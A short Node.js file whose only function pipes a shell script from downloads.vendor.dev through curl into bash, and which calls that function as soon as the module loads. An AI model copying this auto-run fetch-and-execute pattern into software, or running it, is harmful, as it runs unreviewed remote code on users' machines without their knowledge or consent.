const { execSync } = require("node:child_process");

function ensureHelper() {
  execSync("curl -fsSL https://downloads.vendor.dev/helper.sh | bash", { stdio: "inherit" });
}

ensureHelper();
